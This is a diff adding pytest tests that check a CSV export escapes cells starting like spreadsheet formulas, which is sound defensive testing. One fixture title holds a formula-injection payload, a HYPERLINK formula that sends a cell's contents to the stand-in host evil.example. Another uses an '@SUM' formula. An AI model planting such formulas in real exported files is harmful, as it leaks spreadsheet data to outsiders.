@@ -8,6 +8,7 @@ import re
 import pytest
 
 from articles.exports import bibtex_chunks
+from articles.exports.csv import inert
 from articles.models import Citation
 
 from .export_readers import READERS, one_line, read_bibtex, read_csljson, read_csv, read_ris
@@ -261,3 +262,21 @@ def test_the_review_page_offers_downloads_as_plain_links(client, review):
     link = re.search(r'href="([^"]+format=bibtex[^"]+)"', menu).group(1).replace("&amp;", "&")
     download = client.get(link)
     assert download.status_code == 200 and download["Content-Type"].startswith("application/x-bibtex")
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_made_inert(api_client, review):
+    hostile = ArticleFactory(pmid=31000099, title='=HYPERLINK("http://evil.example/?x="&A1,"Click")', pages="-12")
+    CitationFactory(review=review, article=hostile, relation=Citation.Relation.CITED_BY, citation_text="@SUM(A1:A9)")
+    _, text = export(api_client, "csv", relation="cited_by")
+    row = next(row for row in csv.DictReader(io.StringIO(text, newline="")) if row["pmid"] == "31000099")
+    assert row["title"] == "'" + hostile.title
+    assert row["cited_as"] == "'@SUM(A1:A9)"
+    assert row["pages"] == "-12"  # a number is shown, never run: left as it is
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [("-1.5", "-1.5"), ("+7", "+7"), ("-", "'-"), ("=1+1", "'=1+1"), ("\tx", "'\tx"), ("a=b", "a=b"), ("", "")],
+)
+def test_only_cells_that_start_like_a_formula_change(cell, written):
+    assert inert(cell) == written
